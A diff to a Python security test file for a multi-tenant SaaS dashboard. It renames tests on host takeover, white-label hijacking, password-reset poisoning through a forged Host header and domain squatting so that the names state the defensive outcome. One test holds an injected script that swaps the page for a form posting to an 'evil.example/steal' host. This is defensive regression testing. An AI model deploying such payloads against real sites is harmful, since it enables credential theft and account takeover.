@@ -38,7 +38,7 @@ def log_in_page(host: str) -> asgi.Answer:
     return asgi.browser_request("/login", host=host)
 
 
-def test_a_tenant_takes_over_the_dashboards_own_host(
+def test_a_tenant_cannot_take_over_the_dashboards_host(
     alice: User, charlie: User, mallory: Client, settings: Any
 ) -> None:
     settings.BASE_URL, settings.LINK_DOMAIN = f"http://{DASHBOARD}", "go.saas.example"
@@ -56,7 +56,7 @@ def test_a_tenant_takes_over_the_dashboards_own_host(
     assert page.status == 200 and 'name="password"' in page.text
 
 
-def test_a_tenant_takes_over_anothers_white_label(account: Account, alice: User, mallory: Client) -> None:
+def test_a_tenant_cannot_take_over_another_accounts_white_label(account: Account, alice: User, mallory: Client) -> None:
     account_brand_set(account=account, host=BRAND, name="Alice Numbers")
     prove_host(account, BRAND, Purpose.BRAND)
     assert "Alice Numbers" in log_in_page(BRAND).text
@@ -67,14 +67,14 @@ def test_a_tenant_takes_over_anothers_white_label(account: Account, alice: User,
     assert "Alice Numbers" in log_in_page(BRAND).text
 
 
-def test_a_reset_is_asked_for_at_a_host_that_somebody_only_says_is_his(alice: User, mallory: Client) -> None:
+def test_a_reset_requested_on_an_unverified_host_does_not_use_it(alice: User, mallory: Client) -> None:
     mallory.post("/account/brand", {"host": "evil-charlie.example", "name": "Footfall"})
     Client().post("/password/reset", {"email": alice.email}, headers={"host": "evil-charlie.example"})
     (letter,) = mail.outbox
     assert "evil-charlie" not in str(letter.message()) and "http://127.0.0.1:8000/password/reset/" in letter.body
 
 
-def test_a_name_is_registered_to_keep_it_from_its_owner(account: Account, alice: User, mallory: Client) -> None:
+def test_an_unverified_claim_does_not_block_the_hosts_owner(account: Account, alice: User, mallory: Client) -> None:
     mallory.post("/account/brand", {"host": BRAND})
     mallory.post("/links/domains", {"name": "go.alice.example"})
     mallory.post(f"/links/domains/{Domain.objects.get(name='go.alice.example').pk}/delete")
@@ -86,7 +86,7 @@ def test_a_name_is_registered_to_keep_it_from_its_owner(account: Account, alice:
     assert "Alice Numbers" in log_in_page(BRAND).text
 
 
-def test_events_without_a_key_are_gathered_by_registering_a_name_first(charlie: User, site: Site) -> None:
+def test_events_without_a_key_do_not_go_to_an_unverified_site(charlie: User, site: Site) -> None:
     theirs = site_create(account=charlie.memberships.get().account, domain="future.example")
     also = site_create(account=charlie.memberships.get().account, domain="example.com")
     learn()
@@ -101,7 +101,7 @@ def test_events_without_a_key_are_gathered_by_registering_a_name_first(charlie: 
     assert not stored(theirs.pk) and not stored(also.pk) and len(stored(site.pk)) == 1
 
 
-def test_the_word_of_a_click_goes_to_ones_own_sites_only(charlie: User, account: Account, alice: User) -> None:
+def test_a_click_token_is_only_added_to_the_accounts_own_sites(charlie: User, account: Account, alice: User) -> None:
     """Proved or not, since the link is one's own; never because somebody else has a site of that name."""
     from tests.support.links import Browser, make
 
@@ -114,7 +114,9 @@ def test_the_word_of_a_click_goes_to_ones_own_sites_only(charlie: User, account:
     assert led == {"a": False, "b": True, "c": True, "d": False}
 
 
-def test_a_log_in_page_is_published_under_the_dashboards_host(account: Account, charlie: User, mallory: Client) -> None:
+def test_an_account_cannot_publish_a_page_on_the_dashboards_host(
+    account: Account, charlie: User, mallory: Client
+) -> None:
     script = "<script>document.body.innerHTML='<form method=post action=https://evil.example/steal>'</script>"
     mallory.post("/links/scripts", {"name": "s", "text": script})
     key = charlie.memberships.get().account.authkey
